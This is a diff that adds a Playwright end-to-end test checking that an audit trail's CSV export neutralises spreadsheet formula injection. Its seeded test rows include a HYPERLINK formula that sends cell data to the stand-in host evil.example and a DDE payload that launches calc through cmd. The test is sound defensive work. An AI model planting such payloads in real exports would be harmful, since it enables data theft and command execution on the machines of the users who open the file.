@@ -136,6 +136,42 @@ test.describe('Audit Trail', () => {
     );
   });
 
+  test('the CSV export neutralises cells a spreadsheet would run as formulas', async ({ auditPage, ledger }) => {
+    // Events whose user-written text starts a formula, an hour before the seeded window (so no other
+    // spec counts them), written with the spec's own connection and removed afterwards.
+    const at = ledger.endMs - 40 * 24 * 3600 * 1000;
+    const range = { fromMs: at - 3600_000, toMs: at + 3600_000 };
+    const hostile = [
+      {
+        id: 'e2ecsv00000000000000000000000001',
+        user: '@evil',
+        tenant: '-1+1',
+        details: '=HYPERLINK("http://evil.example/?"&A1,"open")',
+      },
+      { id: 'e2ecsv00000000000000000000000002', user: '+cmd', tenant: 't1', details: "=cmd|' /C calc'!A0" },
+      { id: 'e2ecsv00000000000000000000000003', user: 'u1', tenant: 't1', details: '{"name":"=SUM(1,2)"}' },
+    ];
+    try {
+      for (const [i, e] of hostile.entries()) {
+        await ledger.sql.rows(
+          'INSERT INTO audit_log (id, user_id, tenant_id, action, details, create_time) VALUES (?, ?, ?, ?, ?, ?)',
+          [e.id, e.user, e.tenant, 'KB_CREATE', e.details, at + i * 1000]
+        );
+      }
+      await auditPage.goto(params(range));
+      await expect(async () => expect(await auditPage.total()).toMatchObject({ total: hostile.length })).toPass();
+      const { rows } = await auditPage.exportCsv();
+      // Newest first, as the table; each formula cell keeps its text behind a leading apostrophe.
+      expect(rows.slice(1).map((r) => r.slice(1))).toEqual([
+        ['u1', 't1', 'KB_CREATE', '{"name":"=SUM(1,2)"}'],
+        ["'+cmd", 't1', 'KB_CREATE', "'=cmd|' /C calc'!A0"],
+        ["'@evil", "'-1+1", 'KB_CREATE', `'=HYPERLINK("http://evil.example/?"&A1,"open")`],
+      ]);
+    } finally {
+      await ledger.sql.rows('DELETE FROM audit_log WHERE id IN (?)', [hostile.map((e) => e.id)]);
+    }
+  });
+
   for (const role of ['Editor', 'Viewer'] as Role[]) {
     test(`as ${role} the Audit Trail is absent: "no access" at its deep links`, async ({
       asRole,
